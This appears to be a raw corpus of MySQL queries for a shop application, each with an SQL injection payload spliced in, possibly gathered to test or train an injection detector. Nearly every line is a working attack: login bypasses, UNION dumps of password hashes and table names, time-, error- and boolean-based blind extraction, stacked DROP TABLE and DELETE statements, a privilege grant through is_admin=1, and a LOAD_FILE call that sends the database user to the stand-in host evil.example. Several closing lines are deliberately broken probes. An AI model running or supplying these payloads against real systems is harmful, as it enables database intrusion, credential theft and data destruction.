SELECT id, title, price FROM products WHERE category_id = 5; SET @q=0x53454c45435420534c454550283529; PREPARE s FROM @q; EXECUTE s AND visible = 1
SELECT * FROM invoices WHERE customer_no=5; SET @q=0x53454c45435420534c454550283529; PREPARE s FROM @q; EXECUTE s
DELETE FROM cart_items WHERE item_id = 5; SET @q=0x53454c45435420534c454550283529; PREPARE s FROM @q; EXECUTE s
SELECT id, title, price FROM products WHERE category_id = (SELECT password FROM mysql.user LIMIT 1) AND visible = 1
SELECT * FROM invoices WHERE customer_no=(SELECT password FROM mysql.user LIMIT 1)
DELETE FROM cart_items WHERE item_id = (SELECT password FROM mysql.user LIMIT 1)
SELECT id, title, price FROM products WHERE category_id = 5 AND LOAD_FILE(CONCAT('\\\\',(SELECT USER()),'.evil.example\\a')) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND LOAD_FILE(CONCAT('\\\\',(SELECT USER()),'.evil.example\\a'))
DELETE FROM cart_items WHERE item_id = 5 AND LOAD_FILE(CONCAT('\\\\',(SELECT USER()),'.evil.example\\a'))
SELECT id, title, price FROM products WHERE category_id = (SELECT CONCAT(0x71,(ELT(5=5,1)),0x71)) AND visible = 1
SELECT * FROM invoices WHERE customer_no=(SELECT CONCAT(0x71,(ELT(5=5,1)),0x71))
DELETE FROM cart_items WHERE item_id = (SELECT CONCAT(0x71,(ELT(5=5,1)),0x71))
SELECT id, title, price FROM products WHERE category_id = 5 AND 0x61646d696e=(SELECT login FROM accounts LIMIT 1) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND 0x61646d696e=(SELECT login FROM accounts LIMIT 1)
DELETE FROM cart_items WHERE item_id = 5 AND 0x61646d696e=(SELECT login FROM accounts LIMIT 1)
SELECT id, title, price FROM products WHERE category_id = 5/**/OR/**/1=1 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5/**/OR/**/1=1
DELETE FROM cart_items WHERE item_id = 5/**/OR/**/1=1
SELECT id, title, price FROM products WHERE category_id = 5 oR 1=1# AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 oR 1=1#
DELETE FROM cart_items WHERE item_id = 5 oR 1=1#
SELECT id, title, price FROM products WHERE category_id = 5 || 'a'='a' AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 || 'a'='a'
DELETE FROM cart_items WHERE item_id = 5 || 'a'='a'
SELECT id, title, price FROM products WHERE category_id = 5 OR 1-- - AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 OR 1-- -
DELETE FROM cart_items WHERE item_id = 5 OR 1-- -
SELECT id, title, price FROM products WHERE category_id = 5 OR/*x*/1=1 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 OR/*x*/1=1
DELETE FROM cart_items WHERE item_id = 5 OR/*x*/1=1
SELECT id, title, price FROM products WHERE category_id = 5 OR 0x1=0x1 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 OR 0x1=0x1
DELETE FROM cart_items WHERE item_id = 5 OR 0x1=0x1
SELECT id, title, price FROM products WHERE category_id = 5 OR 1.0=1.0 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 OR 1.0=1.0
DELETE FROM cart_items WHERE item_id = 5 OR 1.0=1.0
SELECT id, title, price FROM products WHERE category_id = 5 OR 1e0=1 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 OR 1e0=1
DELETE FROM cart_items WHERE item_id = 5 OR 1e0=1
SELECT id, title, price FROM products WHERE category_id = 5 OR (1)=(1) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 OR (1)=(1)
DELETE FROM cart_items WHERE item_id = 5 OR (1)=(1)
SELECT id, title, price FROM products WHERE category_id = 5 OR 2-1=1 AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 OR 2-1=1
DELETE FROM cart_items WHERE item_id = 5 OR 2-1=1
SELECT id, title, price FROM products WHERE category_id = 5 OR id=id AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 OR id=id
DELETE FROM cart_items WHERE item_id = 5 OR id=id
SELECT id, title, price FROM products WHERE category_id = 5 OR MD5('a')=MD5('a') AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 OR MD5('a')=MD5('a')
DELETE FROM cart_items WHERE item_id = 5 OR MD5('a')=MD5('a')
SELECT id, title, price FROM products WHERE category_id = 5 AND NOT(NOT(1=1)) AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND NOT(NOT(1=1))
DELETE FROM cart_items WHERE item_id = 5 AND NOT(NOT(1=1))
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' OR 'a'='a' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' OR 'a'='a'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' OR 'a'='a' AND site = 4
SELECT body FROM articles WHERE slug = "x' OR 'a'='a" ORDER BY created_at DESC LIMIT 10
SELECT id, name FROM customers WHERE name LIKE '%x' OR 'a'='a%' AND deleted_at IS NULL LIMIT 20
SELECT u.id, u.login FROM accounts u WHERE u.login = '' OR 1=1-- -' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = '' OR 1=1-- -'
UPDATE visits SET hits = hits + 1 WHERE page = '' OR 1=1-- -' AND site = 4
SELECT id, name FROM customers WHERE name LIKE '%' OR 1=1-- -%' AND deleted_at IS NULL LIMIT 20
INSERT INTO feedback (author, message, stars) VALUES ('' OR 1=1-- -', 'nice', 5)
UPDATE members SET nickname = '' OR 1=1-- -', updated_at = NOW() WHERE member_id = 318
SELECT u.id, u.login FROM accounts u WHERE u.login = 'admin'-- -' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'admin'-- -'
UPDATE visits SET hits = hits + 1 WHERE page = 'admin'-- -' AND site = 4
SELECT id, name FROM customers WHERE name LIKE '%admin'-- -%' AND deleted_at IS NULL LIMIT 20
SELECT u.id, u.login FROM accounts u WHERE u.login = 'admin'#' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'admin'#'
UPDATE visits SET hits = hits + 1 WHERE page = 'admin'#' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'admin' OR 1=1#' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'admin' OR 1=1#'
UPDATE visits SET hits = hits + 1 WHERE page = 'admin' OR 1=1#' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' OR '5'='5' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' OR '5'='5'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' OR '5'='5' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' OR 'ab'>'aa' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' OR 'ab'>'aa'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' OR 'ab'>'aa' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' OR 1 LIKE 1 OR 'q'='' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' OR 1 LIKE 1 OR 'q'=''
UPDATE visits SET hits = hits + 1 WHERE page = 'x' OR 1 LIKE 1 OR 'q'='' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = ''='' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = ''=''
UPDATE visits SET hits = hits + 1 WHERE page = ''='' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = '' OR ''='' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = '' OR ''=''
UPDATE visits SET hits = hits + 1 WHERE page = '' OR ''='' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' AND 'a'='b' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' AND 'a'='b'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' AND 'a'='b' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' AND 3=3 AND 'q'='q' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' AND 3=3 AND 'q'='q'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' AND 3=3 AND 'q'='q' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' AND (SELECT COUNT(*) FROM admins)>0 AND 'q'='q' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' AND (SELECT COUNT(*) FROM admins)>0 AND 'q'='q'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' AND (SELECT COUNT(*) FROM admins)>0 AND 'q'='q' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' AND SUBSTRING((SELECT password FROM admins WHERE login='root'),1,1)>'m' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' AND SUBSTRING((SELECT password FROM admins WHERE login='root'),1,1)>'m'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' AND SUBSTRING((SELECT password FROM admins WHERE login='root'),1,1)>'m' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' OR EXISTS(SELECT * FROM admins) AND ''='' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' OR EXISTS(SELECT * FROM admins) AND ''=''
UPDATE visits SET hits = hits + 1 WHERE page = 'x' OR EXISTS(SELECT * FROM admins) AND ''='' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' RLIKE (SELECT (CASE WHEN (7=7) THEN 'x' ELSE 0x28 END)) AND 'q'='q' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' RLIKE (SELECT (CASE WHEN (7=7) THEN 'x' ELSE 0x28 END)) AND 'q'='q'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' RLIKE (SELECT (CASE WHEN (7=7) THEN 'x' ELSE 0x28 END)) AND 'q'='q' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' UNION SELECT 1,2-- -' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' UNION SELECT 1,2-- -'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' UNION SELECT 1,2-- -' AND site = 4
SELECT id, name FROM customers WHERE name LIKE '%x' UNION SELECT 1,2-- -%' AND deleted_at IS NULL LIMIT 20
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' UNION ALL SELECT NULL,NULL#' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' UNION ALL SELECT NULL,NULL#'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' UNION ALL SELECT NULL,NULL#' AND site = 4
SELECT id, name FROM customers WHERE name LIKE '%x' UNION ALL SELECT NULL,NULL#%' AND deleted_at IS NULL LIMIT 20
SELECT u.id, u.login FROM accounts u WHERE u.login = '' UNION SELECT login, pw_hash FROM accounts-- -' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = '' UNION SELECT login, pw_hash FROM accounts-- -'
UPDATE visits SET hits = hits + 1 WHERE page = '' UNION SELECT login, pw_hash FROM accounts-- -' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = '' UNION SELECT table_name, NULL FROM information_schema.tables WHERE table_schema=DATABASE()-- -' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = '' UNION SELECT table_name, NULL FROM information_schema.tables WHERE table_schema=DATABASE()-- -'
UPDATE visits SET hits = hits + 1 WHERE page = '' UNION SELECT table_name, NULL FROM information_schema.tables WHERE table_schema=DATABASE()-- -' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = '' UNION SELECT 1, CONCAT_WS(0x3a,login,password) FROM admins WHERE '1'='1' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = '' UNION SELECT 1, CONCAT_WS(0x3a,login,password) FROM admins WHERE '1'='1'
UPDATE visits SET hits = hits + 1 WHERE page = '' UNION SELECT 1, CONCAT_WS(0x3a,login,password) FROM admins WHERE '1'='1' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = '' UNION SELECT @@hostname, @@datadir#' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = '' UNION SELECT @@hostname, @@datadir#'
UPDATE visits SET hits = hits + 1 WHERE page = '' UNION SELECT @@hostname, @@datadir#' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT password FROM admins LIMIT 1))) AND 'q'='q' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT password FROM admins LIMIT 1))) AND 'q'='q'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT password FROM admins LIMIT 1))) AND 'q'='q' AND site = 4
INSERT INTO feedback (author, message, stars) VALUES ('x' AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT password FROM admins LIMIT 1))) AND 'q'='q', 'nice', 5)
UPDATE members SET nickname = 'x' AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT password FROM admins LIMIT 1))) AND 'q'='q', updated_at = NOW() WHERE member_id = 318
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' OR UPDATEXML(1,CONCAT(0x7e,VERSION()),1) OR 'q'='' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' OR UPDATEXML(1,CONCAT(0x7e,VERSION()),1) OR 'q'=''
UPDATE visits SET hits = hits + 1 WHERE page = 'x' OR UPDATEXML(1,CONCAT(0x7e,VERSION()),1) OR 'q'='' AND site = 4
INSERT INTO feedback (author, message, stars) VALUES ('x' OR UPDATEXML(1,CONCAT(0x7e,VERSION()),1) OR 'q'='', 'nice', 5)
UPDATE members SET nickname = 'x' OR UPDATEXML(1,CONCAT(0x7e,VERSION()),1) OR 'q'='', updated_at = NOW() WHERE member_id = 318
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' AND SLEEP(5) AND 'q'='q' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' AND SLEEP(5) AND 'q'='q'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' AND SLEEP(5) AND 'q'='q' AND site = 4
SELECT id, name FROM customers WHERE name LIKE '%x' AND SLEEP(5) AND 'q'='q%' AND deleted_at IS NULL LIMIT 20
INSERT INTO feedback (author, message, stars) VALUES ('x' AND SLEEP(5) AND 'q'='q', 'nice', 5)
UPDATE members SET nickname = 'x' AND SLEEP(5) AND 'q'='q', updated_at = NOW() WHERE member_id = 318
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x' AND (SELECT 1 FROM (SELECT SLEEP(5))t) AND 'q'='q' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x' AND (SELECT 1 FROM (SELECT SLEEP(5))t) AND 'q'='q'
UPDATE visits SET hits = hits + 1 WHERE page = 'x' AND (SELECT 1 FROM (SELECT SLEEP(5))t) AND 'q'='q' AND site = 4
INSERT INTO feedback (author, message, stars) VALUES ('x' AND (SELECT 1 FROM (SELECT SLEEP(5))t) AND 'q'='q', 'nice', 5)
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x'+SLEEP(5)+'' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x'+SLEEP(5)+''
UPDATE visits SET hits = hits + 1 WHERE page = 'x'+SLEEP(5)+'' AND site = 4
INSERT INTO feedback (author, message, stars) VALUES ('x'+SLEEP(5)+'', 'nice', 5)
UPDATE members SET nickname = 'x'+SLEEP(5)+'', updated_at = NOW() WHERE member_id = 318
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x'-IF(1=1,SLEEP(3),0)-'' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x'-IF(1=1,SLEEP(3),0)-''
UPDATE visits SET hits = hits + 1 WHERE page = 'x'-IF(1=1,SLEEP(3),0)-'' AND site = 4
INSERT INTO feedback (author, message, stars) VALUES ('x'-IF(1=1,SLEEP(3),0)-'', 'nice', 5)
UPDATE members SET nickname = 'x'-IF(1=1,SLEEP(3),0)-'', updated_at = NOW() WHERE member_id = 318
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x'; DROP TABLE accounts; -- -' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x'; DROP TABLE accounts; -- -'
UPDATE visits SET hits = hits + 1 WHERE page = 'x'; DROP TABLE accounts; -- -' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x'; DELETE FROM admins; #' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x'; DELETE FROM admins; #'
UPDATE visits SET hits = hits + 1 WHERE page = 'x'; DELETE FROM admins; #' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x'; SELECT SLEEP(5)#' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x'; SELECT SLEEP(5)#'
UPDATE visits SET hits = hits + 1 WHERE page = 'x'; SELECT SLEEP(5)#' AND site = 4
SELECT id, name FROM customers WHERE name LIKE '%x'; SELECT SLEEP(5)#%' AND deleted_at IS NULL LIMIT 20
INSERT INTO feedback (author, message, stars) VALUES ('x'+(SELECT password FROM admins LIMIT 1)+'', 'nice', 5)
UPDATE members SET nickname = 'x'+(SELECT password FROM admins LIMIT 1)+'', updated_at = NOW() WHERE member_id = 318
INSERT INTO feedback (author, message, stars) VALUES ('x'||(SELECT VERSION())||'', 'nice', 5)
UPDATE members SET nickname = 'x'||(SELECT VERSION())||'', updated_at = NOW() WHERE member_id = 318
INSERT INTO feedback (author, message, stars) VALUES ('x', (SELECT password FROM admins LIMIT 1), 5)-- -', 'nice', 5)
INSERT INTO feedback (author, message, stars) VALUES ('x', (SELECT GROUP_CONCAT(table_name) FROM information_schema.tables), 1)#', 'nice', 5)
INSERT INTO feedback (author, message, stars) VALUES ('x', USER(), 5)-- -', 'nice', 5)
UPDATE members SET nickname = 'x', is_admin=1 WHERE member_id=7-- -', updated_at = NOW() WHERE member_id = 318
UPDATE members SET nickname = 'x', bio=(SELECT password FROM admins LIMIT 1), nickname='x', updated_at = NOW() WHERE member_id = 318
SELECT body FROM articles WHERE slug = "x" OR "1"="1" ORDER BY created_at DESC LIMIT 10
SELECT body FROM articles WHERE slug = "x" AND 4=4 AND "q"="q" ORDER BY created_at DESC LIMIT 10
SELECT body FROM articles WHERE slug = "x" OR 1=1-- -" ORDER BY created_at DESC LIMIT 10
SELECT body FROM articles WHERE slug = "x" UNION SELECT password FROM admins-- -" ORDER BY created_at DESC LIMIT 10
SELECT body FROM articles WHERE slug = "x" AND SLEEP(5)#" ORDER BY created_at DESC LIMIT 10
SELECT id, name, price FROM items WHERE shop_id = 12 ORDER BY (SELECT 1 FROM (SELECT SLEEP(5))a)
SELECT id, name, price FROM items WHERE shop_id = 12 ORDER BY IF(1=1,id,name)
SELECT id, name, price FROM items WHERE shop_id = 12 ORDER BY (CASE WHEN (SELECT SUBSTR(password,1,1) FROM admins LIMIT 1)='a' THEN id ELSE name END)
SELECT id, name, price FROM items WHERE shop_id = 12 ORDER BY id,(SELECT 1 FROM admins WHERE 1=1 AND SLEEP(3))
SELECT id, name, price FROM items WHERE shop_id = 12 ORDER BY EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))
SELECT id, name, price FROM items WHERE shop_id = 12 ORDER BY (CASE WHEN 5=5 THEN price ELSE id END)
SELECT id, name, price FROM items WHERE shop_id = 12 ORDER BY name RLIKE (SELECT (CASE WHEN (4=4) THEN 1 ELSE 0x28 END))
SELECT id, name, price FROM items WHERE shop_id = 12 ORDER BY 200-- -
SELECT id, name, price FROM items WHERE shop_id = 12 ORDER BY id; DROP TABLE items
SELECT id, name, price FROM items WHERE shop_id = 12 ORDER BY IF(ASCII(SUBSTR(USER(),1,1))>64,price,id)
SELECT id, name, price FROM items WHERE shop_id = 12 ORDER BY id PROCEDURE ANALYSE(1)
SELECT id FROM log_lines WHERE lvl = 3 LIMIT 1 UNION SELECT password FROM admins
SELECT id FROM log_lines WHERE lvl = 3 LIMIT 1 INTO OUTFILE '/tmp/a'
SELECT id FROM log_lines WHERE lvl = 3 LIMIT 1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,VERSION())),1)
SELECT id FROM log_lines WHERE lvl = 3 LIMIT 1;SELECT SLEEP(4)
SELECT id FROM orders WHERE status IN (1) OR 1=1-- -) AND total > 10
SELECT id FROM orders WHERE status IN (1) AND 4=4 AND (7=7) AND total > 10
SELECT id FROM orders WHERE status IN (1) UNION SELECT password FROM admins-- -) AND total > 10
SELECT id FROM orders WHERE status IN (1) AND SLEEP(4)-- -) AND total > 10
SELECT id FROM orders WHERE status IN (SELECT IF(3=3,1,2)) AND total > 10
SELECT id, title, price FROM products WHERE category_id = 5' AND visible = 1
SELECT * FROM invoices WHERE customer_no=5'
DELETE FROM cart_items WHERE item_id = 5'
SELECT id, title, price FROM products WHERE category_id = 5" AND visible = 1
SELECT * FROM invoices WHERE customer_no=5"
DELETE FROM cart_items WHERE item_id = 5"
SELECT id, title, price FROM products WHERE category_id = 5') AND visible = 1
SELECT * FROM invoices WHERE customer_no=5')
DELETE FROM cart_items WHERE item_id = 5')
SELECT id, title, price FROM products WHERE category_id = 5'))-- - AND visible = 1
SELECT * FROM invoices WHERE customer_no=5'))-- -
DELETE FROM cart_items WHERE item_id = 5'))-- -
SELECT id, title, price FROM products WHERE category_id = 5' AND 1=1-- - AND visible = 1
SELECT * FROM invoices WHERE customer_no=5' AND 1=1-- -
DELETE FROM cart_items WHERE item_id = 5' AND 1=1-- -
SELECT id, title, price FROM products WHERE category_id = 5) AND 1=1-- - AND visible = 1
SELECT * FROM invoices WHERE customer_no=5) AND 1=1-- -
DELETE FROM cart_items WHERE item_id = 5) AND 1=1-- -
SELECT id, title, price FROM products WHERE category_id = 5` AND visible = 1
SELECT * FROM invoices WHERE customer_no=5`
DELETE FROM cart_items WHERE item_id = 5`
SELECT id, title, price FROM products WHERE category_id = 5'" AND visible = 1
SELECT * FROM invoices WHERE customer_no=5'"
DELETE FROM cart_items WHERE item_id = 5'"
SELECT u.id, u.login FROM accounts u WHERE u.login = 'o'brien'"' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'o'brien'"'
UPDATE visits SET hits = hits + 1 WHERE page = 'o'brien'"' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = ''' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = '''
UPDATE visits SET hits = hits + 1 WHERE page = ''' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = '\'' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = '\''
UPDATE visits SET hits = hits + 1 WHERE page = '\'' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x') OR ('1'='1' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x') OR ('1'='1'
UPDATE visits SET hits = hits + 1 WHERE page = 'x') OR ('1'='1' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x')) OR 1=1#' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x')) OR 1=1#'
UPDATE visits SET hits = hits + 1 WHERE page = 'x')) OR 1=1#' AND site = 4
SELECT u.id, u.login FROM accounts u WHERE u.login = 'x" OR "1"="1' OR '1'='1' AND u.pw_hash = 'd41d8cd98f00b204'
SELECT name, qty FROM stock WHERE sku = 'x" OR "1"="1' OR '1'='1'
UPDATE visits SET hits = hits + 1 WHERE page = 'x" OR "1"="1' OR '1'='1' AND site = 4
SELECT id, title, price FROM products WHERE category_id = 5 UNION SELECT AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 UNION SELECT
DELETE FROM cart_items WHERE item_id = 5 UNION SELECT
SELECT id, title, price FROM products WHERE category_id = 5 AND 1= AND visible = 1
SELECT * FROM invoices WHERE customer_no=5 AND 1=
DELETE FROM cart_items WHERE item_id = 5 AND 1=
